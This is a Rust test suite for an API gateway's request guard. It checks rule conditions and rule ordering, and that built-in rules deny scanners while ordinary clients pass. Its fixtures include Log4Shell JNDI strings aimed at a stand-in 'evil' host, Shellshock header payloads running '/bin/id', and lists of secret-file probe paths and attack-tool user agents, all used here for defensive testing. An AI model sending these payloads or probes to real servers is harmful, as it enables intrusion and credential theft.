#![allow(
    clippy::too_many_lines,
    reason = "tables of cases may be as long as there are cases"
)]
#![allow(clippy::unwrap_used, reason = "tests")]
use http::HeaderMap;
use http::header::HeaderName;

use super::*;
use crate::config::edge::RawEdge;

/// A request to be judged: `METHOD path`, client, host, headers.
struct Case {
    method: Method,
    path: String,
    host: &'static str,
    client: &'static str,
    country: Option<&'static str>,
    length: Option<u64>,
    headers: HeaderMap,
}

fn get(path: &str) -> Case {
    request(Method::GET, path)
}

fn request(method: Method, path: &str) -> Case {
    let path = path.to_owned();
    let mut headers = HeaderMap::new();
    headers.insert("user-agent", "curl/8.5.0".parse().unwrap());
    Case {
        method,
        path,
        host: "localhost:9000",
        client: "198.51.100.1",
        country: None,
        length: None,
        headers,
    }
}

impl Case {
    fn with(mut self, name: &str, value: &str) -> Self {
        self.headers.append(
            HeaderName::from_bytes(name.as_bytes()).unwrap(),
            value.parse().unwrap(),
        );
        self
    }

    fn agent(mut self, agent: &str) -> Self {
        self.headers.remove("user-agent");
        self.with("user-agent", agent)
    }

    fn view(&self) -> View<'_> {
        View {
            method: &self.method,
            path: &self.path,
            host: self.host,
            headers: &self.headers,
            client: self.client.parse().unwrap(),
            country: self.country,
            content_length: self.length,
        }
    }
}

fn guard(text: &str) -> Guard {
    let raw = toml::from_str::<RawEdge>(text).unwrap();
    let mut problems = Vec::new();
    let settings = raw.guard.validate(&mut problems);
    // A case says itself which country it comes from.
    problems.retain(|problem| !problem.contains("guard.country_file"));
    assert_eq!(problems, [""; 0]);
    Guard::compile(&settings)
}

/// The name of the rule that decides, with its action.
fn decides(guard: &Guard, case: &Case) -> Option<(Action, String)> {
    let verdict = guard.judge(&case.view());
    let explained = guard.explain(&case.view());
    let named = explained
        .iter()
        .find(|line| line.decides)
        .map(|line| line.rule.as_str());
    assert_eq!(
        named,
        verdict.rule.map(Rule::name),
        "explain and judge agree"
    );
    verdict
        .rule
        .map(|rule| (verdict.action, rule.name().to_owned()))
}

type Make = fn() -> Case;

/// A condition, requests that it hits, and requests that it does not.
const CONDITIONS: [(&str, &[Make], &[Make]); 22] = [
    (
        "network = [\"198.51.100.0/24\", \"2001:db8::/32\"]",
        &[
            || get("/"),
            || Case {
                client: "2001:db8::9",
                ..get("/")
            },
            || Case {
                client: "::ffff:198.51.100.3",
                ..get("/")
            },
        ],
        &[
            || Case {
                client: "198.51.101.1",
                ..get("/")
            },
            || Case {
                client: "2001:db9::",
                ..get("/")
            },
        ],
    ),
    (
        "country = [\"de\", \"FR\"]",
        &[|| Case {
            country: Some("DE"),
            ..get("/")
        }],
        &[
            || get("/"),
            || Case {
                country: Some("US"),
                ..get("/")
            },
        ],
    ),
    (
        "method = [\"PUT\"]",
        &[|| request(Method::PUT, "/")],
        &[|| get("/")],
    ),
    (
        "path = \"/api/v1/x/*\"",
        &[|| get("/api/v1/x"), || get("/api/v1/x/y")],
        &[|| get("/api/v1/xy"), || get("/API/v1/x/y")],
    ),
    (
        "path = [\"/a/*/c\", \"/d\"]",
        &[|| get("/a/b/c"), || get("/d/")],
        &[|| get("/a/b"), || get("/d/e")],
    ),
    (
        "host = \"*.example.com\"",
        &[|| Case {
            host: "A.example.com:80",
            ..get("/")
        }],
        &[|| get("/")],
    ),
    (
        "header = { name = \"User-Agent\", contains = \"SQLmap\" }",
        &[|| get("/").agent("x sqlMAP/1")],
        &[|| get("/"), || get("/").agent("sqlma")],
    ),
    (
        "header = { name = \"x-a\", equals = \"One\" }",
        &[|| get("/").with("x-a", "two").with("x-a", "ONE")],
        &[|| get("/"), || get("/").with("x-a", "one ")],
    ),
    (
        "header = { name = \"x-a\", prefix = \"On\" }",
        &[|| get("/").with("x-a", "ONE")],
        &[|| get("/").with("x-a", "xon"), || get("/").with("x-a", "o")],
    ),
    (
        "header = { name = \"x-a\", regex = \"^o[nm]e$\" }",
        &[|| get("/").with("x-a", "OME")],
        &[|| get("/").with("x-a", "one!"), || get("/")],
    ),
    (
        "header = { name = \"x-a\", missing = true }",
        &[|| get("/")],
        &[|| get("/").with("x-a", "")],
    ),
    (
        "header = { name = \"x-a\", missing = false }",
        &[|| get("/").with("x-a", "")],
        &[|| get("/")],
    ),
    (
        "body_larger_than = 10",
        &[|| Case {
            length: Some(11),
            ..get("/")
        }],
        &[
            || Case {
                length: Some(10),
                ..get("/")
            },
            || get("/"),
        ],
    ),
    (
        "method = \"GET\", path = \"/x\"",
        &[|| get("/x")],
        &[|| get("/y"), || request(Method::PUT, "/x")],
    ),
    (
        "all = [{ method = \"GET\" }, { path = \"/x\" }]",
        &[|| get("/x")],
        &[|| get("/y"), || request(Method::PUT, "/x")],
    ),
    (
        "any = [{ method = \"PUT\" }, { path = \"/x\" }]",
        &[|| get("/x"), || request(Method::PUT, "/")],
        &[|| get("/y")],
    ),
    ("not = { path = \"/x\" }", &[|| get("/y")], &[|| get("/x")]),
    (
        "path = \"/x\", not = { network = \"198.51.100.1\" }",
        &[|| Case {
            client: "198.51.100.2",
            ..get("/x")
        }],
        &[|| get("/x")],
    ),
    (
        "not = { country = \"DE\" }",
        &[
            || get("/"),
            || Case {
                country: Some("US"),
                ..get("/")
            },
        ],
        &[|| Case {
            country: Some("DE"),
            ..get("/")
        }],
    ),
    (
        "not = { any = [{ path = \"/x\" }, { path = \"/y\" }] }",
        &[|| get("/z")],
        &[|| get("/x"), || get("/y")],
    ),
    (
        "method = [\"PURGE\"]",
        &[|| request("PURGE".parse().unwrap(), "/")],
        &[|| get("/")],
    ),
    ("path = \"/*\"", &[|| get("/"), || get("/x/y")], &[]),
];

#[test]
fn every_condition_hits_what_it_names_and_nothing_else() {
    for (when, hits, passes) in CONDITIONS {
        let text = format!("[[guard.rules]]\nname = \"r\"\naction = \"deny\"\nwhen = {{ {when} }}");
        let guard = guard(&text);
        let by_rule = |case: &Case| decides(&guard, case).is_some_and(|(_, name)| name == "r");
        hits.iter()
            .for_each(|case| assert!(by_rule(&case()), "{when} should hit {:?}", case().view()));
        passes.iter().for_each(|case| {
            assert!(
                !by_rule(&case()),
                "{when} should not hit {:?}",
                case().view()
            )
        });
        for case in hits.iter().chain(passes) {
            assert!(
                guard
                    .explain(&case().view())
                    .iter()
                    .all(|line| !line.why.is_empty())
            );
        }
    }
}

#[test]
fn the_first_hit_decides_and_observe_goes_on() {
    let guard = guard(
        r#"
        [[guard.rules]]
        name = "watch"
        action = "observe"
        when = { path = "/*" }
        [[guard.rules]]
        name = "off"
        action = "deny"
        enabled = false
        when = { path = "/*" }
        [[guard.rules]]
        name = "office"
        action = "allow"
        when = { network = "192.0.2.0/24" }
        [[guard.rules]]
        name = "no-x"
        action = "deny"
        when = { path = "/x/*" }
        "#,
    );
    let office = Case {
        client: "192.0.2.9",
        ..get("/x/.env")
    };
    assert_eq!(
        decides(&guard, &office),
        Some((Action::Allow, "office".into()))
    );
    assert_eq!(
        decides(&guard, &get("/x/y")),
        Some((Action::Deny, "no-x".into()))
    );
    assert_eq!(
        decides(&guard, &get("/.env")),
        Some((Action::Deny, "builtin-scanner-paths".into()))
    );
    assert_eq!(decides(&guard, &get("/y")), None);
    let mut seen = Vec::new();
    guard.judge_with(&get("/x/y").view(), |rule| seen.push(rule.name()));
    assert_eq!(seen, ["watch"]);
    assert!(guard.rules().iter().all(|rule| rule.name() != "off"));
}

#[test]
fn explain_says_what_decides_and_why() {
    let guard = guard(
        "[[guard.rules]]\nname = \"r\"\naction = \"deny\"\nwhen = { method = \"GET\", path = \"/x\" }",
    );
    let lines = guard.explain(&get("/y").view());
    assert_eq!(
        (lines[0].matched, lines[0].why.as_str()),
        (false, "path matches none of 1 patterns")
    );
    let lines = guard.explain(&get("/x").view());
    assert_eq!(
        lines[0].why,
        "method GET is in the list and path matches /x"
    );
    assert!(lines[0].decides && lines.len() == 5);
}

const SCANNED_PATHS: &[&str] = &[
    "/.env",
    "/.env.local",
    "/api/v1/.env",
    "/.git/config",
    "/a/.GIT/HEAD",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.DS_Store",
    "/.svn/entries",
    "/.htpasswd",
    "/wp-admin",
    "/wp-login.php",
    "/WP-content/x",
    "/wordpress/",
    "/index.php",
    "/a/b.PHP",
    "/xmlrpc.php",
    "/x.aspx",
    "/x.jsp",
    "/cgi-bin/luci",
    "/phpmyadmin/",
    "/pma",
    "/vendor/phpunit/eval-stdin.php",
    "/boaform/admin",
    "/HNAP1",
    "/server-status",
    "/solr/admin",
    "/_ignition/execute-solution",
];

const SCANNERS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "feroxbuster/2.10.0",
    "WPScan v3.8.22 (https://wpscan.com/)",
    "Fuzz Faster U Fool v2.0 ffuf",
    "ZmEu",
    "l9explore/1.2.2",
];

fn absurd_requests() -> Vec<Case> {
    vec![
        get("/").with("x", "${jndi:ldap://evil/a}"),
        get("/").with("referer", "a ${${lower:j}ndi:x}"),
        get("/").with("cookie", "() { :;}; /bin/id"),
        get("/").agent("() { :; }; echo"),
        get("/").agent(&"x".repeat(3000)),
        get("/").with("proxy", "http://evil"),
        get("/").with("range", &format!("bytes=0-{}", ",5-6".repeat(200))),
        get("/").with("user-agent", "second"),
        get("/")
            .with("authorization", "Bearer a")
            .with("authorization", "Bearer b"),
        get("/")
            .with("origin", "https://a")
            .with("origin", "https://b"),
        Case {
            host: Box::leak("h".repeat(300).into_boxed_str()),
            ..get("/")
        },
    ]
}

#[test]
fn each_built_in_rule_hits_and_can_be_switched() {
    let methods = [
        "PROPFIND", "TRACK", "DEBUG", "FOO", "get", "MKCOL", "SEARCH",
    ];
    let cases: [(&str, Vec<Case>); 4] = [
        (
            "scanner_paths",
            SCANNED_PATHS.iter().map(|path| get(path)).collect(),
        ),
        (
            "scanner_agents",
            SCANNERS
                .iter()
                .map(|agent| get("/api/v1/x").agent(agent))
                .collect(),
        ),
        ("absurd_headers", absurd_requests()),
        (
            "unusual_methods",
            methods
                .map(|name| request(name.parse().unwrap(), "/api/v1/x"))
                .into(),
        ),
    ];
    for (rule, cases) in cases {
        let name = format!("builtin-{}", rule.replace('_', "-"));
        for case in &cases {
            assert_eq!(
                decides(&guard(""), case),
                Some((Action::Deny, name.clone())),
                "{:?}",
                case.view()
            );
            let observing = guard(&format!("[guard.builtin]\n{rule} = \"observe\""));
            let mut seen = 0;
            assert!(
                observing
                    .judge_with(&case.view(), |_| seen += 1)
                    .rule
                    .is_none_or(|rule| rule.name() != name)
            );
            let off = guard(&format!("[guard.builtin]\n{rule} = \"off\""));
            assert!(off.rules().len() == 3 && off.rules().iter().all(|rule| rule.name() != name));
            assert!(seen == 1 && decides(&guard("[guard]\nenabled = false"), case).is_none());
        }
    }
}

/// Default User-Agents of what people call an API with, the libraries of the seed page's eight samples among them.
const ORDINARY_AGENTS: [&str; 40] = [
    "curl/7.88.1",
    "curl/8.5.0",
    "Wget/1.21.3",
    "Wget/1.21.4 (linux-gnu)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBID/phone;FBLC/de_DE;FBOP/5]",
    "python-requests/2.32.3",
    "python-httpx/0.27.0",
    "python-urllib3/2.2.1",
    "Python-urllib/3.12",
    "Python/3.12 aiohttp/3.9.5",
    "node",
    "undici",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/1.7.2",
    "Deno/1.44.4",
    "Bun/1.1.17",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "Ruby",
    "Faraday v2.9.0",
    "unirest-java/1.3.11",
    "unirest-java/3.14.5",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "Java-http-client/21.0.3",
    "okhttp/4.12.0",
    "GuzzleHttp/7",
    "GuzzleHttp/6.5.5 curl/7.88.1 PHP/8.2.20",
    "RestSharp/106.11.4.0",
    "RestSharp/111.2.0.0",
    "MyApp/1 CFNetwork/1494.0.7 Darwin/23.4.0",
    "swift-client (unknown version) CFNetwork/1494.0.7 Darwin/23.4.0",
    "PostmanRuntime/7.39.0",
    "Dart/3.4 (dart:io)",
];

#[test]
fn no_ordinary_client_is_ever_stopped() {
    let guard = guard("");
    let methods = [
        Method::GET,
        Method::HEAD,
        Method::POST,
        Method::PUT,
        Method::PATCH,
        Method::DELETE,
        Method::OPTIONS,
    ];
    let paths = [
        "/",
        "/api/v1/user/login",
        "/account/forgot",
        "/.well-known/jwks.json",
        "/api/v1/shipment/1.2.3/label.pdf",
        "/api/v1/files/.hidden",
        "/docs/",
        "/api/v1/wp-x",
        "/favicon.ico",
        "/api/v1/php",
        "/vendor/7",
        "/api/v1/a.b",
    ];
    for agent in ORDINARY_AGENTS {
        for method in &methods {
            for path in paths {
                let case = request(method.clone(), path)
                    .agent(agent)
                    .with("accept", "*/*")
                    .with("accept-encoding", "gzip;q=1.0,deflate;q=0.6,identity;q=0.3")
                    .with("cookie", "a=1; b=$2")
                    .with("cookie", "c=${x}")
                    .with("authorization", "Bearer ${TOKEN}")
                    .with("range", "bytes=0-99,200-299");
                assert_eq!(decides(&guard, &case), None, "{agent} {method} {path}");
            }
        }
    }
    let mut nameless = get("/api/v1/user/check");
    nameless.headers.clear();
    assert_eq!(decides(&guard, &nameless), None);
    for method in [Method::TRACE, Method::CONNECT] {
        assert_eq!(
            decides(&guard, &request(method, "/")),
            None,
            "answered with 405 elsewhere"
        );
    }
}

#[test]
fn a_hundred_thousand_networks_compile_and_match() {
    let list: Vec<String> = (0..100_000_u32)
        .map(|i| format!("\"{}.{}.{}.0/25\"", 1 + i / 65_536, i / 256 % 256, i % 256))
        .collect();
    let text = format!(
        "[[guard.rules]]\nname = \"r\"\naction = \"deny\"\nwhen = {{ network = [{}] }}",
        list.join(",")
    );
    let guard = guard(&text);
    assert!(
        decides(
            &guard,
            &Case {
                client: "1.2.3.127",
                ..get("/")
            }
        )
        .is_some()
    );
    assert!(
        decides(
            &guard,
            &Case {
                client: "1.2.3.128",
                ..get("/")
            }
        )
        .is_none()
    );
}
